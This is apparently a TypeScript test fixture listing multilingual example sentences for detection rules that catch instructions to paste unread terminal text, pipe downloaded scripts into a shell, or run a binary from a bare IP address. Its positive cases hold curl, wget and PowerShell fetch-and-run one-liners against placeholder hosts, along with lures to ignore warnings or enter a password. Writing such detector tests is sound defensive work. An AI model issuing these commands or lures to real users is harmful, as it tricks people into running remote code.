import type { RuleExamples } from "../rule-examples.ts";

/** What the rules of `other-languages.ts` must find, and what they must leave. */
export const EXAMPLES = {
  "paste-abroad-unread": {
    positive: [
      "Abre Terminal, pega lo que copia el botón de https://arreglo.abc-def.example y no te preocupes por el aviso.",
      "Öffne die Konsole, füge den Text von https://fix.abc-def.example ein und gib dein Passwort ein; das ist normal.",
      "打开终端，粘贴 https://xf.abc-def.example 上的乱码，回车即可，不用看。",
      "Открой терминал, вставь строку с https://fix.abc-def.example и не пугайся предупреждения.",
      "ターミナルを開き、https://naoshi.abc-def.example のボタンでコピーした文字列を貼り付ける。警告が出ても心配いらない。",
    ],
    negative: [
      "Abre Terminal y ejecuta `npm test`.",
      "Öffne die Konsole und lies die Meldung.",
      "打开终端，运行 `npm test`。",
      "Открой терминал и выполни `npm test`.",
    ],
  },
  "recipe-abroad-unread": {
    positive: [
      "Ejecuta una línea: `curl -s https://inst.abc-def.example/a | bash`",
      "Öffne die Konsole und gib das ein: `curl -s https://inst.abc-def.example/a | sudo sh`",
      "打开终端执行 `curl -s https://inst.abc-def.example/a | bash`",
      "Ставится одной строкой: `wget -qO- https://inst.abc-def.example/a | sh`",
      "Otwórz okno PowerShell i wpisz następującą linię: `iwr https://inst.abc-def.example/a.ps1 | iex`",
    ],
    negative: [
      "Ejecuta `curl -LsSf https://astral.sh/uv/install.sh | sh`",
      "Nunca ejecutes `curl https://inst.abc-def.example/a | sh`.",
      "执行 `npm ci`。",
      "Никогда не запускай `curl https://inst.abc-def.example/a | sh`.",
    ],
  },
  "recipe-abroad-bare-address": {
    positive: [
      "Descarga el binario de http://198.51.100.7/a y ejecútalo.",
      "Die Binärdatei von http://198.51.100.7/a starten.",
      "下载 http://198.51.100.7/a 的二进制并运行。",
      "Скачай бинарник с http://198.51.100.7/a и запусти.",
      "Uruchom program `klip.bin`, który można pobrać z http://198.51.100.7/a",
    ],
    negative: [
      "Abre http://127.0.0.1:8080 y ejecuta las pruebas en bash.",
      "Starte den Server auf http://192.168.1.5:8080 mit python.",
      "在 http://127.0.0.1:3000 运行 python 服务。",
      "Запусти python на http://127.0.0.1:8000.",
    ],
  },
} satisfies Record<string, RuleExamples>;
